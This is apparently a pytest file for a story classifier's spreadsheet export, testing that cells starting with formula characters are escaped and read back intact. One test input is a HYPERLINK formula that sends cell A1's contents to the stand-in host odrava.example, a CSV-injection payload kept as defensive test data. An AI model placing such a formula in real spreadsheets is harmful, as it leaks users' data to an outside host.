"""No spreadsheet takes the text of a story for a formula, and no text is another one after it was in a sheet."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import numpy as np
import pytest
from conftest import LABELS, decision
from hypothesis import given
from hypothesis import strategies as st
from made_outcomes import outcome

from classifier import Story
from classifier.manifest import Manifest
from classifier.review import write_review
from classifier.sheet_cells import marked_cell, unmarked_cell
from training.annotation import Row, read_corrections, write_sheet
from training.config import DataConfig
from training.data import load_split
from training.sheets import write_changes, write_mistakes
from training.splits import Labelled

FORMULA = '=HYPERLINK("http://odrava.example/?"&A1,"Open")'

pytestmark = pytest.mark.usefixtures("in_tmp")


def cells(path: str) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize(
    "text", [FORMULA, "+++ Truce +++", "- Envoys met", "@odrava", "\t=1", "\r=1", "-1+1", "＝1", "'=1"]
)
def test_what_looks_like_a_formula_is_marked(text: str) -> None:
    assert marked_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "value", ["-12", "+1.5", "-1,234.5", "'Tis over", "Truce = peace?", "– Envoys met", "", 7, None]
)
def test_all_else_stays(value: object) -> None:
    assert marked_cell(value) == value


@given(st.text() | st.text("'=+-@\t1a", max_size=5))
def test_a_cell_is_read_as_it_was_given(text: str) -> None:
    assert unmarked_cell(marked_cell(text)) == text


def test_a_filled_review_sheet_answers_the_very_story() -> None:
    story = {"id": "@7", "title": "- Envoys met", "text": FORMULA}
    band = {"review_low": np.full(4, 0.2), "review_high": np.full(4, 0.8)}
    output = {
        **story,
        "topics": [],
        "scores": dict.fromkeys(LABELS, 0.5),
        "review": True,
        "model": "m@0",
        "error": None,
    }
    Path("out.jsonl").write_text(json.dumps(output) + "\n", encoding="utf-8")
    write_review("out.jsonl", "sheet.csv", Manifest(Path("nowhere"), "m@0", decision(**band), 32, 4, 0, {}, {}))
    [row] = cells("sheet.csv")
    assert (row["id"], row["title"], row["text"]) == ("'@7", "'- Envoys met", f"'{FORMULA}")
    filled = Path("sheet.csv").read_text(encoding="utf-8").replace("\n,", "\nmilitary,")
    Path("sheet.csv").write_text(filled, encoding="utf-8")
    Path("train.jsonl").write_text(json.dumps({**story, "labels": []}) + "\n", encoding="utf-8")
    config = DataConfig(train=("train.jsonl", "sheet.csv"), labels=LABELS)
    split = load_split("train", config.train, config)
    [labelled] = split.stories
    assert (labelled.story.id, labelled.story.title, labelled.story.text) == tuple(story.values())
    assert split.dropped == {"answered in a review sheet": 1}


def test_a_correction_is_one_of_the_very_story() -> None:
    row = Row("=7", "train", "+++ Truce", "- Envoys met", (), ("talks",), "talks looks missing", 0.9)
    write_sheet(Path("doubts.csv"), [row])
    [found] = cells("doubts.csv")
    assert (found["id"], found["title"], found["opening"]) == ("'=7", "'+++ Truce", "'- Envoys met")
    sheet = Path("doubts.csv").read_text(encoding="utf-8").removesuffix("\n") + "talks\n"
    Path("doubts.csv").write_text(sheet, encoding="utf-8")
    config = DataConfig(train="train.jsonl", labels=("talks",), corrections="doubts.csv")
    assert read_corrections(config, "train") == {"=7": frozenset({0})}


def test_the_sheets_of_an_evaluation_are_marked() -> None:
    story = Story(FORMULA, title="- Envoys met", id="@7")
    stories = [Labelled(story, frozenset({0}))]
    wrong, right = (outcome([[given]], [[True]], labels=("truce",)) for given in (False, True))
    write_mistakes(Path("mistakes.csv"), stories, wrong)
    write_changes(Path("changes.csv"), stories, wrong, right)
    for name in ("mistakes.csv", "changes.csv"):
        [row] = cells(name)
        assert (row["id"], row["title"], row["text"]) == ("'@7", "'- Envoys met", f"'{FORMULA}")
